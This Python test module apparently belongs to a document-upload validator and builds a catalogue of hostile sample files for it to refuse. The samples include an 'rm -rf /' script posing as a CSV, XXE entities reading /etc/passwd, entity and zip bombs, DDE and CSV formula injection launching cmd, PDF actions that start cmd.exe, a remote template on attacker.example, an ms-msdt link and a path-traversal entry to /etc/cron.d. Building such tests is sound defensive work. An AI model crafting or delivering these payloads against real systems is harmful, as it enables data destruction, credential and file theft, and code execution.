"""Hostile documents, built in code: what each is, the name it comes under, its bytes, and why it is refused."""

import io
import struct
import zipfile
import zlib

from tests.core.office_files import ODF, SHEET, XLINK, S, W, docx, odf, packed, pdf, xlsx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
BOMB = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
STEALING = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
SHARE = "file://attacker.example/share/plantilla.dotm"


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def document(before, body=""):
    return {"word/document.xml": f'{before}<w:document xmlns:w="{W}">{body}</w:document>'.encode()}


def locked():
    """A DOCX whose parts say that a password locks them."""
    data = bytearray(docx())
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        data[place + 8] |= 1
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)


def overlapping():
    """A ZIP whose directory names the same bytes twenty times, as in the bomb of David Fifield."""
    data = packed({"word/a.xml": b"<a/>"})
    start, end = data.find(b"PK\x01\x02"), data.rfind(b"PK\x05\x06")
    directory = data[start:end]
    return (
        data[:start]
        + directory * 20
        + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 20, 20, len(directory) * 20, start, 0)
    )


def twice():
    """A DOCX with two texts under one name, of which programs show one or the other."""
    data = docx(parts={"word/documenX.xml": f'<w:document xmlns:w="{W}"/>'})
    return data.replace(b"word/documenX.xml", b"word/document.xml")


def stored_first(name, data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def packed_object(body, padding=0):
    """A PDF that says a thing in a compressed stream of objects alone."""
    inside = f"11 0 {body}".encode() + b" " * padding
    first = len("11 0 ")
    squeezed = zlib.compress(inside).decode("latin-1")
    stream = (
        f"<< /Type /ObjStm /N 1 /First {first} /Filter /FlateDecode /Length {len(squeezed)} >>\n"
        f"stream\n{squeezed}\nendstream"
    )
    bare = pdf("", stream)
    start = bare.rfind(b"xref\n0 1")
    rows = {number: (1, bare.find(f"\n{number} 0 obj".encode()) + 1, 0) for number in (1, 2, 10, 1000)}
    rows[11] = (2, 10, 0)  # inside 10, the first
    table = b"".join(struct.pack(">BIH", *rows[number]) for number in sorted(rows))
    facts = f"/Type /XRef /Size 2001 /W [1 4 2] /Index [1 2 10 2 1000 1] /Root 1 0 R /Length {len(table)}"
    end = f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n"
    return bare[:start] + f"2000 0 obj\n<< {facts} >>\nstream\n".encode() + table + end.encode()


HOSTILE = {
    # renamed programs, and what a browser would run
    "a program named as a document": ("acta.docx", b"MZ\x90\x00" + bytes(200), "type"),
    "a program of Linux named as a PDF": ("acta.pdf", b"\x7fELF\x02\x01\x01" + bytes(200), "type"),
    "a script named as a list": ("lista.csv", b"#!/bin/sh\nrm -rf /\n", "type"),
    "a shortcut of Windows": ("acta.pdf.lnk", b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(90), "type"),
    "a web page named as text": ("acta.txt", b"\n <!DOCTYPE html><script>alert(1)</script>", "type"),
    "a drawing that carries a script": (
        "escudo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
        "type",
    ),
    "a web page after some words": ("acta.csv", b"Ciudad;Acta\nLa Paz;<iframe src=x>\n", "type"),
    "a web page in UTF-16": ("acta.txt", "<html><script>x()</script>".encode("utf-16"), "type"),
    "an archive of mail with pages": ("acta.doc", b"MIME-Version: 1.0\nContent-Type: text/html\n", "type"),
    "an RTF, which carries objects": ("acta.doc", b"{\\rtf1{\\object\\objocx}}", "type"),
    "bytes without sense named as text": ("acta.txt", bytes(range(256)), "type"),
    "an archive of files": ("actas.zip", packed({"acta.txt": "Acta"}), "type"),
    "nothing": ("acta.pdf", b"  \n", "empty"),
    # two kinds at once
    "a GIF that is a script": ("logo.txt", b"GIF89a/*<script>*/=1;alert(1)</script>", "polyglot"),
    "a PDF with an archive behind it": ("acta.pdf", pdf() + packed({"x.class": b"\xca\xfe\xba\xbe"}), "polyglot"),
    "an archive with a PDF at its head": ("acta.docx", stored_first("a", pdf()), "polyglot"),
    "text with a PDF below": ("acta.txt", b"Acta\n" + pdf(), "polyglot"),
    "a document behind a program": ("acta.docx", b"PK\x03\x04" + bytes(40) + docx(), "polyglot"),
    "a document with a comment behind it": ("acta.docx", docx(comment=b"<script>x()</script>"), "polyglot"),
    "a document with two texts of one name": ("acta.docx", twice(), "polyglot"),
    # old or locked
    "an Office file as of 1997": ("acta.doc", OLE, "old"),
    "an Office file with a password": ("acta.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    "an archive with a password": ("acta.docx", locked(), "encrypted"),
    "an ODT with a password": (
        "acta.odt",
        odf(manifest='<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry>'),
        "encrypted",
    ),
    "a PDF with a password": (
        "acta.pdf",
        pdf("", "<< /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -4 >>", trailer="/Encrypt 10 0 R /ID [(a) (a)]"),
        "encrypted",
    ),
    # macros
    "a Word file with macros": (
        "acta.docx",
        docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macro",
    ),
    "macros that the list of parts keeps silent about": (
        "acta.docx",
        docx(parts={"word/vbaProject.bin": OLE}),
        "macro",
    ),
    "an Excel file with macros": (
        "lista.xlsx",
        xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        "macro",
    ),
    "a sheet of macros of 1992": ("lista.xlsx", xlsx(parts={"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    "an ODT with Basic": ("acta.odt", odf(parts={"Basic/Standard/Module1.xml": "<a/>"}), "macro"),
    "an ODS with a script in Python": ("lista.ods", odf(kind=SHEET, parts={"Scripts/python/a.py": "x"}), "macro"),
    "an ODT that runs on opening": ("acta.odt", odf('<script:event-listener script:event-name="dom:load"/>'), "macro"),
    "a link that runs a macro": (
        "acta.odt",
        odf('<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'),
        "macro",
    ),
    # files inside files
    "an object of OLE": ("acta.docx", docx(links=[("oleObject", "media/a.bin")]), "embedded"),
    "a workbook inside a letter": ("acta.docx", docx(parts={"word/embeddings/a.xlsx": xlsx()}), "embedded"),
    "a program inside a letter": ("acta.docx", docx(parts={"word/media/image1.png": b"MZ\x90\x00"}), "embedded"),
    "an archive inside a workbook": ("lista.xlsx", xlsx(parts={"xl/media/a.bin": packed({"a": b"a"})}), "embedded"),
    "a page that Word takes into its text": ("acta.docx", docx(links=[("aFChunk", "a.html")]), "embedded"),
    "an object of OLE in an ODT": ("acta.odt", odf('<draw:object-ole xlink:href="./Object 1"/>'), "embedded"),
    "a page in a frame of an ODT": ("acta.odt", odf('<draw:floating-frame xlink:href="a"/>'), "embedded"),
    "a PDF with a file inside": ("acta.pdf", pdf("/Names << /EmbeddedFiles << /Names [] >> >>"), "embedded"),
    "a PDF with a film": ("acta.pdf", pdf("", "<< /Type /Annot /Subtype /RichMedia >>"), "embedded"),
    # what acts by itself
    "a PDF with JavaScript": ("acta.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
    "a PDF that starts a program": ("acta.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    "a PDF with JavaScript in letters of code": ("acta.pdf", pdf("/OpenAction << /S /J#61vaScript >>"), "active"),
    "a PDF with JavaScript packed away": ("acta.pdf", packed_object("<< /S /JavaScript /JS (x) >>"), "active"),
    "a PDF with JavaScript that no table lists": (
        "acta.pdf",
        pdf() + b"\n77 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n",
        "active",
    ),
    "a PDF form that sends itself": ("acta.pdf", pdf("", "<< /S /SubmitForm /F (https://x.example) >>"), "active"),
    # what is fetched from elsewhere
    "a template on somebody's server": ("acta.docx", docx(links=[("attachedTemplate", SHARE)]), "external"),
    "a picture that tells who opened it": ("acta.docx", docx(links=[("image", "https://x.example/p.gif")]), "external"),
    "a link that starts a program": ("acta.docx", docx(links=[("hyperlink", "ms-msdt:/id PCWDiagnostic")]), "external"),
    "a link to a share, which tells the password": (
        "acta.docx",
        docx(links=[("hyperlink", "file://x.example/a")]),
        "external",
    ),
    "a field that asks a program": ("acta.docx", docx(field("DDEAUTO c:\\\\Windows\\\\cmd.exe")), "external"),
    "a field that asks a program, in pieces": ("acta.docx", docx(field("DD", "E cmd ", "x")), "external"),
    "a field that takes in a text": ("acta.docx", docx(field(" INCLUDETEXT https://x.example/a")), "external"),
    "a workbook that reads another": (
        "lista.xlsx",
        xlsx(links=[("externalLink", "externalLinks/externalLink1.xml")]),
        "external",
    ),
    "a cell that asks a program": ("lista.xlsx", xlsx("<c><f>cmd|'/C calc'!A0</f></c>"), "external"),
    "a cell that asks a server": ("lista.xlsx", xlsx("<c><f>_xlfn.WEBSERVICE(A1)</f></c>"), "external"),
    "a cell of an ODS that asks a program": (
        "lista.ods",
        odf('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;)"/>', kind=SHEET),
        "external",
    ),
    "an ODT that takes in a section": (
        "acta.odt",
        odf('<text:section-source xlink:href="https://x.example"/>'),
        "external",
    ),
    "an ODT with a picture elsewhere": ("acta.odt", odf('<draw:image xlink:href="https://x.example/p"/>'), "external"),
    "a sum that asks a program": ("lista.csv", b"La Paz\t-2+3+cmd|' /C calc'!A0\n", "external"),
    "a list that asks a program": ("lista.csv", b"Ciudad;Tema\nLa Paz;=cmd|' /C calc'!A0\n", "external"),
    # what grows without end
    "entities that multiply": ("acta.docx", docx(parts=document(BOMB, "&c;")), "entities"),
    "entities that read a file": ("acta.docx", docx(parts=document(STEALING, "&a;")), "entities"),
    "entities in the list of parts": ("lista.xlsx", xlsx(parts={"[Content_Types].xml": BOMB + "<Types/>"}), "entities"),
    "entities in a sheet": (
        "lista.xlsx",
        xlsx(parts={"xl/worksheets/sheet2.xml": f'{BOMB}<worksheet xmlns="{S}"/>'}),
        "entities",
    ),
    "entities in UTF-16": ("acta.odt", odf(parts={"styles.xml": (BOMB + "<a/>").encode("utf-16")}), "entities"),
    "entities in an ODT": (
        "acta.odt",
        odf(parts={"content.xml": f"{BOMB}<office:document-content {ODF} {XLINK}/>"}),
        "entities",
    ),
    "a part that unpacks to a thousand times": ("acta.docx", docx(parts={"word/a.xml": bytes(20_000_000)}), "bomb"),
    "the same bytes under twenty names": ("acta.docx", overlapping(), "bomb"),
    "more parts than any office file has": (
        "acta.docx",
        docx(parts={f"word/{n}.xml": "" for n in range(5_001)}),
        "bomb",
    ),
    "a PDF whose objects unpack to 76 MB": ("acta.pdf", packed_object("<< /S /JavaScript >>", 76_000_000), "bomb"),
    "a PDF of too many pages": ("acta.pdf", pdf(pages=1_001), "pages"),
    # damaged, or leading out of the folder
    "a torn document": ("acta.docx", docx()[:200] + docx()[-22:], "broken"),
    "a PDF that is none": ("acta.pdf", b"%PDF-1.7\nnothing more", "broken"),
    "a part that leaves its folder": ("acta.docx", docx(parts={"../../etc/cron.d/a": "x"}), "broken"),
}
